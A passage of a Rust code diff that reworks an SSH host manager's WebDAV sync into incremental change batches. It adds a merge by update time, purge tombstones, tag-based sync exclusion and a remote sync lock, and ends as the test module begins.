@@ -1,17 +1,39 @@
 use crate::credential_store::webdav_password_get;
+use crate::host_changes::{
+    changes_between, host_tombstones, latest_change_seq, prune_changes_through,
+    record_host_tombstones, sync_state_get, sync_state_set, OP_DELETE, OP_UPSERT,
+};
 use crate::host_store::{
-    get_hosts_db_path, hosts_load, import_hosts_json_to_db, open_hosts_db, settings_load,
+    ensure_hosts_schema, get_hosts_db_path, hosts_db_is_encrypted, hosts_db_snapshot_bytes,
+    hosts_load, import_hosts_json_to_db, is_newer, merge_hosts_by_updated_at, open_hosts_db,
+    open_pulled_hosts_db, parse_updated_at, read_hosts, settings_load, without_purged_hosts,
 };
 use crate::models::{Host, Settings};
 use crate::ssh_config::generate_ssh_config;
 use crate::webdav_url::webdav_resolve_url_with_folder;
 use reqwest::Method;
+use serde::{Deserialize, Serialize};
 use std::fs;
-use std::path::PathBuf;
+use std::path::Path;
 use url::Url;
 
 const MAX_WEBDAV_DB_BYTES: usize = 25 * 1024 * 1024;
 // hosts.db is the canonical WebDAV format. hosts.json is only a legacy fallback/export.
+// Edits since the last hosts.db upload travel as small change batches
+// (hosts.changes.<seq>.json) listed by hosts.sync.json; see `webdav_push`.
+const SYNC_HEAD_FILE: &str = "hosts.sync.json";
+const SYNC_FORMAT_VERSION: u32 = 1;
+// Upload a fresh hosts.db after this many batches so a new device never has
+// to replay a long history.
+const MAX_INCREMENTAL_BATCHES: u64 = 50;
+const SYNC_LOCK_FILE: &str = "hosts.sync.lock";
+// Long enough for a full hosts.db upload; a crashed device blocks others for
+// at most this long.
+const SYNC_LOCK_TTL_SECS: i64 = 120;
+const SYNC_LOCK_RETRY_DELAYS_MS: &[u64] = &[500, 1000, 2000, 4000];
+const STATE_SNAPSHOT_ID: &str = "webdav_snapshot_id";
+const STATE_REMOTE_SEQ: &str = "webdav_remote_seq";
+const STATE_PUSHED_LOCAL_SEQ: &str = "webdav_pushed_local_seq";
 
 type WebdavAuth = Option<(String, String)>;
 
@@ -134,18 +156,337 @@ async fn webdav_ensure_remote_folder(
     Ok(())
 }
 
-fn hosts_db_sidecar_paths() -> Vec<PathBuf> {
-    let db = get_hosts_db_path();
-    let db_str = db.to_string_lossy().to_string();
-    vec![
-        PathBuf::from(format!("{db_str}-wal")),
-        PathBuf::from(format!("{db_str}-shm")),
-    ]
+/// Remote sync head. Every push bumps `head_seq`; batches
+/// `snapshot_seq + 1 ..= head_seq` hold the edits made after the hosts.db
+/// upload identified by `snapshot_id`.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct SyncHead {
+    version: u32,
+    snapshot_id: String,
+    snapshot_seq: u64,
+    head_seq: u64,
+}
+
+#[derive(Debug, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct SyncBatch {
+    seq: u64,
+    ops: Vec<SyncOp>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct SyncOp {
+    host_id: String,
+    op: String,
+    changed_at: String,
+    #[serde(default)]
+    host: Option<Host>,
+}
+
+/// What this device last saw of the remote, and which local changes it has
+/// already pushed.
+#[derive(Debug, Default, Clone, PartialEq)]
+struct LocalSyncState {
+    snapshot_id: Option<String>,
+    remote_seq: u64,
+    pushed_local_seq: i64,
+}
+
+impl LocalSyncState {
+    fn load() -> Result<Self, String> {
+        let conn = open_hosts_db()?;
+        Ok(Self {
+            snapshot_id: sync_state_get(&conn, STATE_SNAPSHOT_ID)?.filter(|id| !id.is_empty()),
+            remote_seq: sync_state_get(&conn, STATE_REMOTE_SEQ)?
+                .and_then(|v| v.parse().ok())
+                .unwrap_or(0),
+            pushed_local_seq: sync_state_get(&conn, STATE_PUSHED_LOCAL_SEQ)?
+                .and_then(|v| v.parse().ok())
+                .unwrap_or(0),
+        })
+    }
+
+    fn save(&self) -> Result<(), String> {
+        let conn = open_hosts_db()?;
+        sync_state_set(
+            &conn,
+            STATE_SNAPSHOT_ID,
+            self.snapshot_id.as_deref().unwrap_or(""),
+        )?;
+        sync_state_set(&conn, STATE_REMOTE_SEQ, &self.remote_seq.to_string())?;
+        sync_state_set(
+            &conn,
+            STATE_PUSHED_LOCAL_SEQ,
+            &self.pushed_local_seq.to_string(),
+        )
+    }
+
+    /// Whether the batches after `remote_seq` are enough to catch up with
+    /// `head`; otherwise the remote was rewritten and needs a full pull.
+    fn follows(&self, head: &SyncHead) -> bool {
+        self.snapshot_id.as_deref() == Some(head.snapshot_id.as_str())
+            && self.remote_seq >= head.snapshot_seq
+            && self.remote_seq <= head.head_seq
+    }
+}
+
+fn batch_file_name(seq: u64) -> String {
+    format!("hosts.changes.{seq}.json")
+}
+
+pub(crate) struct WebdavTarget {
+    client: reqwest::Client,
+    auth: WebdavAuth,
+    webdav_url: String,
+    folder: Option<String>,
+    sync_excluded_tags: Vec<String>,
+}
+
+impl WebdavTarget {
+    pub(crate) fn from_settings() -> Result<Self, String> {
+        crate::safe_mode::ensure_not_safe_mode("WebDAV sync")?;
+        let settings = settings_load()?;
+        let webdav_url = settings
+            .webdav_url
+            .clone()
+            .ok_or("WebDAV URL not configured")?;
+        Ok(Self {
+            client: webdav_client()?,
+            auth: webdav_auth(&settings)?,
+            webdav_url,
+            folder: settings.webdav_folder,
+            sync_excluded_tags: settings.sync_excluded_tags,
+        })
+    }
+
+    fn url(&self, file_name: &str) -> Result<String, String> {
+        webdav_resolve_url_with_folder(&self.webdav_url, self.folder.as_deref(), file_name)
+    }
+
+    pub(crate) async fn ensure_remote_folder(&self) -> Result<(), String> {
+        webdav_ensure_remote_folder(
+            &self.client,
+            &self.auth,
+            &self.webdav_url,
+            self.folder.as_deref(),
+        )
+        .await
+    }
+
+    /// GET a small sync file; `None` when it does not exist.
+    pub(crate) async fn get_optional(&self, file_name: &str) -> Result<Option<Vec<u8>>, String> {
+        let url = self.url(file_name)?;
+        let response = with_webdav_auth(self.client.get(&url), &self.auth)
+            .send()
+            .await
+            .map_err(|e| e.to_string())?;
+        let status = response.status();
+        if status.as_u16() == 404 {
+            return Ok(None);
+        }
+        if !status.is_success() {
+            let body = response.text().await.unwrap_or_default();
+            return Err(status_error(
+                &format!("Pull failed ({file_name})"),
+                status,
+                &body,
+            ));
+        }
+        let bytes = response.bytes().await.map_err(|e| e.to_string())?;
+        Ok(Some(bytes.to_vec()))
+    }
+
+    /// DELETE a sync file; one that is already gone is fine.
+    pub(crate) async fn delete(&self, file_name: &str) -> Result<(), String> {
+        let url = self.url(file_name)?;
+        let response = with_webdav_auth(self.client.delete(&url), &self.auth)
+            .send()
+            .await
+            .map_err(|e| e.to_string())?;
+        let status = response.status();
+        if !status.is_success() && status.as_u16() != 404 {
+            let body = response.text().await.unwrap_or_default();
+            return Err(status_error(
+                &format!("Delete failed ({file_name})"),
+                status,
+                &body,
+            ));
+        }
+        Ok(())
+    }
+
+    pub(crate) async fn put(&self, file_name: &str, body: Vec<u8>) -> Result<(), String> {
+        let url = self.url(file_name)?;
+        let response = with_webdav_auth(self.client.put(&url).body(body), &self.auth)
+            .send()
+            .await
+            .map_err(|e| e.to_string())?;
+        let status = response.status();
+        if !status.is_success() {
+            let body = response.text().await.unwrap_or_default();
+            return Err(status_error(
+                &format!("Push failed ({file_name})"),
+                status,
+                &body,
+            ));
+        }
+        Ok(())
+    }
+}
+
+fn status_error(prefix: &str, status: reqwest::StatusCode, body: &str) -> String {
+    let body = body.trim();
+    if body.is_empty() {
+        return format!("{prefix}: {status}");
+    }
+    format!(
+        "{prefix}: {status} ({})",
+        &body.chars().take(180).collect::<String>()
+    )
+}
+
+async fn fetch_sync_head(target: &WebdavTarget) -> Result<Option<SyncHead>, String> {
+    let Some(bytes) = target.get_optional(SYNC_HEAD_FILE).await? else {
+        return Ok(None);
+    };
+    let head: SyncHead =
+        serde_json::from_slice(&bytes).map_err(|e| format!("Invalid {SYNC_HEAD_FILE}: {e}"))?;
+    if head.version > SYNC_FORMAT_VERSION {
+        return Err(format!(
+            "{SYNC_HEAD_FILE} was written by a newer version of the app; please update"
+        ));
+    }
+    Ok(Some(head))
+}
+
+/// Ops of batches `from..=to`, or `None` if any batch is missing (the remote
+/// history no longer lines up with what this device has seen).
+async fn fetch_sync_ops(
+    target: &WebdavTarget,
+    from: u64,
+    to: u64,
+) -> Result<Option<Vec<SyncOp>>, String> {
+    let mut ops = Vec::new();
+    for seq in from..=to {
+        let Some(bytes) = target.get_optional(&batch_file_name(seq)).await? else {
+            return Ok(None);
+        };
+        let batch: SyncBatch = serde_json::from_slice(&bytes)
+            .map_err(|e| format!("Invalid {}: {e}", batch_file_name(seq)))?;
+        if batch.seq != seq {
+            return Ok(None);
+        }
+        ops.extend(batch.ops);
+    }
+    Ok(Some(ops))
+}
+
+/// Whether a host stays on this device: flagged itself, or tagged with one of
+/// the excluded tags (tags are how hosts are grouped).
+fn is_sync_excluded(host: &Host, excluded_tags: &[String]) -> bool {
+    host.sync_excluded
+        || host.tags.iter().any(|tag| {
+            excluded_tags
+                .iter()
+                .any(|excluded| excluded.trim().eq_ignore_ascii_case(tag.trim()))
+        })
+}
+
+/// Remote hosts a pull may take in: excluded local hosts are never
+/// overwritten, and remote hosts in an excluded group are not imported.
+fn syncable_remote_hosts(local: &[Host], remote: Vec<Host>, excluded_tags: &[String]) -> Vec<Host> {
+    remote
+        .into_iter()
+        .filter(|remote_host| {
+            !is_sync_excluded(remote_host, excluded_tags)
+                && !local.iter().any(|local_host| {
+                    local_host.id == remote_host.id && is_sync_excluded(local_host, excluded_tags)
+                })
+        })
+        .map(|remote_host| {
+            let local_host = local
+                .iter()
+                .find(|local_host| local_host.id == remote_host.id);
+            with_local_proxy_command(remote_host, local_host)
+        })
+        .collect()
+}
+
+/// A `ProxyCommand` runs here, so like the blocked `extra_config` directives
+/// it is never taken from another device: a pulled host keeps this device's
+/// command, or has none. A pulled jump host setup replaces the command.
+fn with_local_proxy_command(mut remote: Host, local: Option<&Host>) -> Host {
+    let has_jump_hosts = remote
+        .proxy_jump
+        .as_deref()
+        .is_some_and(|jump| !jump.trim().is_empty())
+        || !remote.jump_host_ids.is_empty();
+    remote.proxy_command = local
+        .filter(|_| !has_jump_hosts)
+        .and_then(|local| local.proxy_command.clone());
+    remote
 }
 
-fn validate_downloaded_hosts_db(path: &PathBuf) -> Result<(), String> {
-    let conn = rusqlite::Connection::open(path)
-        .map_err(|e| format!("Downloaded DB is not readable: {e}"))?;
+/// Replay remote ops onto the local host list with the same last-writer-wins
+/// rule as a full pull: an op only applies if it is not older than the local
+/// copy, so local edits made since the last sync survive. Hosts excluded from
+/// sync are left alone.
+fn apply_sync_ops(mut hosts: Vec<Host>, ops: Vec<SyncOp>, excluded_tags: &[String]) -> Vec<Host> {
+    for op in ops {
+        let excluded = op
+            .host
+            .as_ref()
+            .is_some_and(|host| is_sync_excluded(host, excluded_tags))
+            || hosts
+                .iter()
+                .any(|host| host.id == op.host_id && is_sync_excluded(host, excluded_tags));
+        if excluded {
+            continue;
+        }
+        let index = hosts.iter().position(|host| host.id == op.host_id);
+        match (op.op.as_str(), op.host, index) {
+            (OP_UPSERT, Some(remote), Some(i)) if !is_newer(&hosts[i], &remote) => {
+                hosts[i] = with_local_proxy_command(remote, Some(&hosts[i]));
+            }
+            (OP_UPSERT, Some(remote), None) => hosts.push(with_local_proxy_command(remote, None)),
+            (OP_DELETE, _, Some(i)) => {
+                let local_changed_after = match (
+                    parse_updated_at(&hosts[i].updated_at),
+                    parse_updated_at(&op.changed_at),
+                ) {
+                    (Some(local), Some(deleted)) => local > deleted,
+                    _ => false,
+                };
+                if !local_changed_after {
+                    hosts.remove(i);
+                }
+            }
+            _ => {}
+        }
+    }
+    hosts
+}
+
+fn import_sync_ops(ops: Vec<SyncOp>, excluded_tags: &[String]) -> Result<(), String> {
+    if ops.is_empty() {
+        return Ok(());
+    }
+    let mut conn = open_hosts_db()?;
+    // An upsert from a device that had not seen a local purge yet must not
+    // bring the host back.
+    let merged = without_purged_hosts(
+        apply_sync_ops(hosts_load()?, ops, excluded_tags),
+        &host_tombstones(&conn)?,
+    );
+    import_hosts_json_to_db(&mut conn, merged)?;
+    let _ = generate_ssh_config(hosts_load()?);
+    Ok(())
+}
+
+fn validate_downloaded_hosts_db(path: &Path) -> Result<(), String> {
+    let conn = open_pulled_hosts_db(path)?;
     let integrity: String = conn
         .query_row("PRAGMA integrity_check", [], |row| row.get(0))
         .map_err(|e| format!("Downloaded DB integrity check failed: {e}"))?;
@@ -165,19 +506,9 @@ fn validate_downloaded_hosts_db(path: &PathBuf) -> Result<(), String> {
     Ok(())
 }
 
-#[tauri::command]
-pub async fn webdav_pull() -> Result<(), String> {
-    let settings = settings_load()?;
-    let webdav_url = settings
-        .webdav_url
-        .clone()
-        .ok_or("WebDAV URL not configured")?;
-    let auth = webdav_auth(&settings)?;
-
-    let client = webdav_client()?;
-    let url_db =
-        webdav_resolve_url_with_folder(&webdav_url, settings.webdav_folder.as_deref(), "hosts.db")?;
-    let db_response = with_webdav_auth(client.get(&url_db), &auth)
+async fn pull_full_snapshot(target: &WebdavTarget) -> Result<(), String> {
+    let url_db = target.url("hosts.db")?;
+    let db_response = with_webdav_auth(target.client.get(&url_db), &target.auth)
         .send()
         .await
         .map_err(|e| e.to_string())?;
@@ -206,95 +537,118 @@ pub async fn webdav_pull() -> Result<(), String> {
             return Err(e);
         }
 
-        // If the local DB was ever in WAL mode, stale sidecar files can replay local edits
-        // (e.g. deletions) after we replace the main DB file. Remove them before/after rename.
-        for p in hosts_db_sidecar_paths() {
-            let _ = fs::remove_file(p);
-        }
-        fs::rename(&temp_path, &backup_path).map_err(|e| e.to_string())?;
-        for p in hosts_db_sidecar_paths() {
-            let _ = fs::remove_file(p);
-        }
+        // Merge instead of replacing the local DB so edits made on this device
+        // since the last push (including restores from the trash) survive.
+        // Hosts absent on one side are kept unless a tombstone says they were
+        // purged. The pulled copy may come from an older build, so upgrade its
+        // schema before reading.
+        let remote = open_pulled_hosts_db(&temp_path).and_then(|conn| {
+            ensure_hosts_schema(&conn)?;
+            Ok((read_hosts(&conn)?, host_tombstones(&conn)?))
+        });
+        let _ = fs::remove_file(&temp_path);
+        let (remote_hosts, remote_tombstones) = remote?;
+        let local = hosts_load()?;
+        let remote_hosts = syncable_remote_hosts(&local, remote_hosts, &target.sync_excluded_tags);
+        let mut conn = open_hosts_db()?;
+        record_host_tombstones(&conn, &remote_tombstones)?;
+        let tombstones = host_tombstones(&conn)?;
+        let merged = merge_hosts_by_updated_at(local, remote_hosts, &tombstones);
+        import_hosts_json_to_db(&mut conn, merged)?;
         let _ = generate_ssh_config(hosts_load()?);
         return Ok(());
     }
     if db_status.as_u16() != 404 {
         let body = db_response.text().await.unwrap_or_default();
-        let body = body.trim();
-        if body.is_empty() {
-            return Err(format!("Pull failed: {db_status}"));
-        }
-        return Err(format!(
-            "Pull failed: {db_status} ({})",
-            &body.chars().take(180).collect::<String>()
-        ));
+        return Err(status_error("Pull failed", db_status, &body));
     }
 
-    let url_json = webdav_resolve_url_with_folder(
-        &webdav_url,
-        settings.webdav_folder.as_deref(),
-        "hosts.json",
-    )?;
-    let request = with_webdav_auth(client.get(&url_json), &auth);
+    let url_json = target.url("hosts.json")?;
+    let request = with_webdav_auth(target.client.get(&url_json), &target.auth);
 
     let response = request.send().await.map_err(|e| e.to_string())?;
     let status = response.status();
     if status.is_success() {
         let content = response.text().await.map_err(|e| e.to_string())?;
         let hosts: Vec<Host> = serde_json::from_str(&content).map_err(|e| e.to_string())?;
+        let local = hosts_load()?;
+        let hosts = syncable_remote_hosts(&local, hosts, &target.sync_excluded_tags);
         let mut conn = open_hosts_db()?;
-        import_hosts_json_to_db(&mut conn, hosts)?;
+        let tombstones = host_tombstones(&conn)?;
+        let merged = merge_hosts_by_updated_at(local, hosts, &tombstones);
+        import_hosts_json_to_db(&mut conn, merged)?;
         let _ = generate_ssh_config(hosts_load()?);
         return Ok(());
     }
 
     let body = response.text().await.unwrap_or_default();
-    let body = body.trim();
-    if body.is_empty() {
-        return Err(format!("Pull failed: {status}"));
+    Err(status_error("Pull failed", status, &body))
+}
+
+async fn pull_impl(target: &WebdavTarget) -> Result<(), String> {
+    let head = fetch_sync_head(target).await?;
+    let mut state = LocalSyncState::load()?;
+    // Applying remote ops rewrites hosts locally and logs them as local
+    // changes; when nothing was pending before the pull those are only echoes
+    // of the remote and need not be pushed back.
+    let had_pending = latest_change_seq(&open_hosts_db()?)? > state.pushed_local_seq;
+
+    let Some(head) = head else {
+        // Remote written by an older build: hosts.db is all there is.
+        return pull_full_snapshot(target).await;
+    };
+    let ops = if state.follows(&head) {
+        fetch_sync_ops(target, state.remote_seq + 1, head.head_seq).await?
+    } else {
+        None
+    };
+    match ops {
+        Some(ops) => import_sync_ops(ops, &target.sync_excluded_tags)?,
+        None => {
+            pull_full_snapshot(target).await?;
+            let ops = fetch_sync_ops(target, head.snapshot_seq + 1, head.head_seq)
+                .await?
+                .ok_or(
+                    "Remote change history is incomplete; push from a device with a complete copy",
+                )?;
+            import_sync_ops(ops, &target.sync_excluded_tags)?;
+        }
     }
-    Err(format!(
-        "Pull failed: {status} ({})",
-        &body.chars().take(180).collect::<String>()
-    ))
+
+    state.snapshot_id = Some(head.snapshot_id);
+    state.remote_seq = head.head_seq;
+    if !had_pending {
+        state.pushed_local_seq = latest_change_seq(&open_hosts_db()?)?;
+    }
+    state.save()
 }
 
 #[tauri::command]
-pub async fn webdav_push() -> Result<(), String> {
-    let settings = settings_load()?;
-    let auth = webdav_auth(&settings)?;
-    let webdav_url = settings
-        .webdav_url
-        .clone()
-        .ok_or("WebDAV URL not configured")?;
-
-    let hosts_path = get_hosts_db_path();
-    if !hosts_path.exists() {
-        let _ = hosts_load()?;
-    }
-    // Flush WAL into the main DB file so WebDAV uploads the latest state.
-    if let Ok(conn) = open_hosts_db() {
-        let _ = conn.query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(()));
-    }
-    let content = fs::read(&hosts_path).map_err(|e| e.to_string())?;
-    let hosts_json = serde_json::to_vec_pretty(&hosts_load()?).map_err(|e| e.to_string())?;
-
-    let client = webdav_client()?;
-    let url_db =
-        webdav_resolve_url_with_folder(&webdav_url, settings.webdav_folder.as_deref(), "hosts.db")?;
-    let url_json = webdav_resolve_url_with_folder(
-        &webdav_url,
-        settings.webdav_folder.as_deref(),
-        "hosts.json",
-    )?;
-    webdav_ensure_remote_folder(
-        &client,
-        &auth,
-        &webdav_url,
-        settings.webdav_folder.as_deref(),
-    )
-    .await?;
-    let request = with_webdav_auth(client.put(&url_db).body(content), &auth);
+pub async fn webdav_pull() -> Result<(), String> {
+    let target = WebdavTarget::from_settings()?;
+    let job = crate::jobs::begin(None, "webdav_pull", false);
+    let result = pull_impl(&target).await;
+    job.finish(&result, false);
+    crate::audit_log::record("webdav_pull", None, "ui", &result);
+    result
+}
+
+async fn push_full_snapshot(target: &WebdavTarget) -> Result<(), String> {
+    let (hosts, excluded): (Vec<Host>, Vec<Host>) = hosts_load()?
+        .into_iter()
+        .partition(|host| !is_sync_excluded(host, &target.sync_excluded_tags));
+    let excluded_ids: Vec<String> = excluded.into_iter().map(|host| host.id).collect();
+    let content = hosts_db_snapshot_bytes(&excluded_ids)?;
+    // The plaintext hosts.json export would defeat an encrypted hosts.db.
+    let hosts_json = if hosts_db_is_encrypted() {
+        None
+    } else {
+        Some(serde_json::to_vec_pretty(&hosts).map_err(|e| e.to_string())?)
+    };
+
+    let url_db = target.url("hosts.db")?;
+    let url_json = target.url("hosts.json")?;
+    let request = with_webdav_auth(target.client.put(&url_db).body(content), &target.auth);
 
     let response = request.send().await.map_err(|e| e.to_string())?;
     if !response.status().is_success() {
@@ -310,7 +664,10 @@ pub async fn webdav_push() -> Result<(), String> {
         ));
     }
 
-    let req_json = with_webdav_auth(client.put(&url_json).body(hosts_json), &auth);
+    let Some(hosts_json) = hosts_json else {
+        return Ok(());
+    };
+    let req_json = with_webdav_auth(target.client.put(&url_json).body(hosts_json), &target.auth);
     let resp_json = req_json.send().await.map_err(|e| e.to_string())?;
     if !resp_json.status().is_success() {
         let status = resp_json.status();
@@ -327,3 +684,478 @@ pub async fn webdav_push() -> Result<(), String> {
 
     Ok(())
 }
+
+fn pending_sync_ops(
+    after: i64,
+    up_to: i64,
+    excluded_tags: &[String],
+) -> Result<Vec<SyncOp>, String> {
+    let conn = open_hosts_db()?;
+    let changes = changes_between(&conn, after, up_to)?;
+    drop(conn);
+    if changes.is_empty() {
+        return Ok(Vec::new());
+    }
+    let hosts = hosts_load()?;
+    Ok(changes
+        .into_iter()
+        .filter_map(|change| {
+            let host = hosts.iter().find(|host| host.id == change.host_id).cloned();
+            if host
+                .as_ref()
+                .is_some_and(|host| is_sync_excluded(host, excluded_tags))
+            {
+                return None;
+            }
+            Some(SyncOp {
+                op: if host.is_some() { OP_UPSERT } else { OP_DELETE }.to_string(),
+                host_id: change.host_id,
+                changed_at: change.changed_at,
+                host: host.map(|mut host| {
+                    host.password = None;
+                    host
+                }),
+            })
+        })
+        .collect())
+}
+
+#[derive(Debug, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct SyncLockFile {
+    owner: String,
+    expires_at: String,
+}
+
+pub(crate) enum SyncLock {
+    Dav { url: String, token: String },
+    File { owner: String },
+}
+
+enum LockAttempt {
+    Acquired(SyncLock),
+    Busy,
+    Unsupported,
+}
+
+/// Whether an existing lock file keeps `owner` out. Unreadable or expired
+/// locks are stale (a device that crashed mid-push) and can be taken over.
+fn lock_file_blocks(
+    existing: Option<&SyncLockFile>,
+    owner: &str,
+    now: chrono::DateTime<chrono::Utc>,
+) -> bool {
+    let Some(existing) = existing else {
+        return false;
+    };
+    if existing.owner == owner {
+        return false;
+    }
+    parse_updated_at(&existing.expires_at).is_some_and(|expires_at| expires_at > now)
+}
+
+impl WebdavTarget {
+    async fn try_dav_lock(&self, owner: &str) -> Result<LockAttempt, String> {
+        let url = self.url(SYNC_LOCK_FILE)?;
+        let body = format!(
+            r#"<?xml version="1.0" encoding="utf-8"?>
+<D:lockinfo xmlns:D="DAV:"><D:lockscope><D:exclusive/></D:lockscope><D:locktype><D:write/></D:locktype><D:owner>{owner}</D:owner></D:lockinfo>"#
+        );
+        let request = self
+            .client
+            .request(Method::from_bytes(b"LOCK").unwrap(), &url)
+            .header("Content-Type", "application/xml; charset=utf-8")
+            .header("Depth", "0")
+            .header("Timeout", format!("Second-{SYNC_LOCK_TTL_SECS}"))
+            .body(body);
+        let response = with_webdav_auth(request, &self.auth)
+            .send()
+            .await
+            .map_err(|e| e.to_string())?;
+        let status = response.status();
+        if status.as_u16() == 423 {
+            return Ok(LockAttempt::Busy);
+        }
+        let token = response
+            .headers()
+            .get("Lock-Token")
+            .and_then(|value| value.to_str().ok())
+            .map(|value| value.trim().to_string())
+            .filter(|value| !value.is_empty());
+        match token {
+            Some(token) if status.is_success() => {
+                Ok(LockAttempt::Acquired(SyncLock::Dav { url, token }))
+            }
+            _ => Ok(LockAttempt::Unsupported),
+        }
+    }
+
+    async fn try_file_lock(&self, owner: &str) -> Result<LockAttempt, String> {
+        let read_lock = |bytes: Option<Vec<u8>>| {
+            bytes.and_then(|bytes| serde_json::from_slice::<SyncLockFile>(&bytes).ok())
+        };
+        let existing = read_lock(self.get_optional(SYNC_LOCK_FILE).await?);
+        if lock_file_blocks(existing.as_ref(), owner, chrono::Utc::now()) {
+            return Ok(LockAttempt::Busy);
+        }
+        let lock = SyncLockFile {
+            owner: owner.to_string(),
+            expires_at: (chrono::Utc::now() + chrono::Duration::seconds(SYNC_LOCK_TTL_SECS))
+                .to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
+        };
+        let body = serde_json::to_vec(&lock).map_err(|e| e.to_string())?;
+        self.put(SYNC_LOCK_FILE, body).await?;
+        // No compare-and-swap over plain PUT: read back to catch a device
+        // that wrote its lock at the same moment.
+        let written = read_lock(self.get_optional(SYNC_LOCK_FILE).await?);
+        if written.is_some_and(|written| written.owner == owner) {
+            Ok(LockAttempt::Acquired(SyncLock::File {
+                owner: owner.to_string(),
+            }))
+        } else {
+            Ok(LockAttempt::Busy)
+        }
+    }
+
+    /// Take the remote sync lock with a WebDAV LOCK where the server supports
+    /// it, or a lock file with an expiry otherwise, retrying with backoff
+    /// while another device holds it.
+    pub(crate) async fn acquire_sync_lock(&self) -> Result<SyncLock, String> {
+        let owner = uuid::Uuid::new_v4().to_string();
+        let mut dav_supported = true;
+        for delay_ms in SYNC_LOCK_RETRY_DELAYS_MS
+            .iter()
+            .map(Some)
+            .chain(std::iter::once(None))
+        {
+            let mut attempt = LockAttempt::Unsupported;
+            if dav_supported {
+                attempt = self.try_dav_lock(&owner).await?;
+                dav_supported = !matches!(attempt, LockAttempt::Unsupported);
+            }
+            if matches!(attempt, LockAttempt::Unsupported) {
+                attempt = self.try_file_lock(&owner).await?;
+            }
+            match attempt {
+                LockAttempt::Acquired(lock) => return Ok(lock),
+                _ => match delay_ms {
+                    Some(ms) => tokio::time::sleep(std::time::Duration::from_millis(*ms)).await,
+                    None => break,
+                },
+            }
+        }
+        Err("Another device is syncing right now; try again in a moment".to_string())
+    }
+
+    pub(crate) async fn release_sync_lock(&self, lock: SyncLock) {
+        let result = match lock {
+            SyncLock::Dav { url, token } => {
+                let request = self
+                    .client
+                    .request(Method::from_bytes(b"UNLOCK").unwrap(), &url)
+                    .header("Lock-Token", token);
+                with_webdav_auth(request, &self.auth).send().await
+            }
+            SyncLock::File { owner } => {
+                let still_ours = match self.get_optional(SYNC_LOCK_FILE).await {
+                    Ok(Some(bytes)) => serde_json::from_slice::<SyncLockFile>(&bytes)
+                        .is_ok_and(|lock| lock.owner == owner),
+                    _ => false,
+                };
+                if !still_ours {
+                    return;
+                }
+                let Ok(url) = self.url(SYNC_LOCK_FILE) else {
+                    return;
+                };
+                with_webdav_auth(self.client.delete(&url), &self.auth)
+                    .send()
+                    .await
+            }
+        };
+        // An unreleased lock only delays other devices until it expires.
+        if let Err(e) = result {
+            eprintln!("[webdav] failed to release sync lock: {e}");
+        }
+    }
+}
+
+/// Upload only the hosts changed since the last push as one batch file, or
+/// the whole hosts.db when the remote has no usable history (first push,
+/// rewritten by another device, or too many batches since the snapshot).
+/// A full upload drops the batches and local change log it supersedes.
+/// With an encrypted hosts.db every push is a full upload, since change
+/// batches are plaintext JSON. Runs under the remote sync lock so two
+/// devices pushing at once cannot overwrite each other.
+#[tauri::command]
+pub async fn webdav_push() -> Result<(), String> {
+    let target = WebdavTarget::from_settings()?;
+    let job = crate::jobs::begin(None, "webdav_push", false);
+    let result = async {
+        target.ensure_remote_folder().await?;
+        let lock = target.acquire_sync_lock().await?;
+        let result = push_impl(&target).await;
+        target.release_sync_lock(lock).await;
+        result
+    }
+    .await;
+    job.finish(&result, false);
+    crate::audit_log::record("webdav_push", None, "ui", &result);
+    result
+}
+
+async fn push_impl(target: &WebdavTarget) -> Result<(), String> {
+    let head = fetch_sync_head(target).await?;
+    let mut state = LocalSyncState::load()?;
+    let local_seq = latest_change_seq(&open_hosts_db()?)?;
+
+    if let Some(head) = head.as_ref().filter(|head| {
+        !hosts_db_is_encrypted()
+            && state.follows(head)
+            && head.head_seq - head.snapshot_seq < MAX_INCREMENTAL_BATCHES
+    }) {
+        let ops = pending_sync_ops(
+            state.pushed_local_seq,
+            local_seq,
+            &target.sync_excluded_tags,
+        )?;
+        if ops.is_empty() {
+            return Ok(());
+        }
+        let seq = head.head_seq + 1;
+        let batch = serde_json::to_vec(&SyncBatch { seq, ops }).map_err(|e| e.to_string())?;
+        target.put(&batch_file_name(seq), batch).await?;
+        let next_head = SyncHead {
+            head_seq: seq,
+            ..head.clone()
+        };
+        let next_head = serde_json::to_vec_pretty(&next_head).map_err(|e| e.to_string())?;
+        target.put(SYNC_HEAD_FILE, next_head).await?;
+        // Batches pushed by other devices since our last pull are still
+        // unseen, so only advance when this batch directly followed ours.
+        if state.remote_seq == head.head_seq {
+            state.remote_seq = seq;
+        }
+        state.pushed_local_seq = local_seq;
+        return state.save();
+    }
+
+    // A full upload replaces hosts.db, so first take in anything other
+    // devices pushed since this one last synced.
+    if let Some(head) = head.as_ref() {
+        if !(state.follows(head) && state.remote_seq == head.head_seq) {
+            pull_impl(target).await?;
+        }
+    }
+    let local_seq = latest_change_seq(&open_hosts_db()?)?;
+    push_full_snapshot(target).await?;
+    let seq = head.as_ref().map(|head| head.head_seq).unwrap_or(0);
+    let next_head = SyncHead {
+        version: SYNC_FORMAT_VERSION,
+        snapshot_id: uuid::Uuid::new_v4().to_string(),
+        snapshot_seq: seq,
+        head_seq: seq,
+    };
+    let body = serde_json::to_vec_pretty(&next_head).map_err(|e| e.to_string())?;
+    target.put(SYNC_HEAD_FILE, body).await?;
+    LocalSyncState {
+        snapshot_id: Some(next_head.snapshot_id),
+        remote_seq: seq,
+        pushed_local_seq: local_seq,
+    }
+    .save()?;
+
+    // The snapshot holds everything up to here, so the change log and the
+    // batches of the previous snapshot are no longer needed. Left-over
+    // batches are harmless, so failing to delete one does not fail the push.
+    prune_changes_through(&open_hosts_db()?, local_seq)?;
+    if let Some(previous) = head {
+        for batch_seq in previous.snapshot_seq + 1..=previous.head_seq {
+            if let Err(e) = target.delete(&batch_file_name(batch_seq)).await {
+                eprintln!("[webdav] {e}");
+            }
+        }
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{
+        apply_sync_ops, lock_file_blocks, syncable_remote_hosts, LocalSyncState, SyncHead,
+        SyncLockFile, SyncOp, OP_DELETE, OP_UPSERT,
+    };
+    use crate::mock_backends::test_host;
+    use crate::models::Host;
+
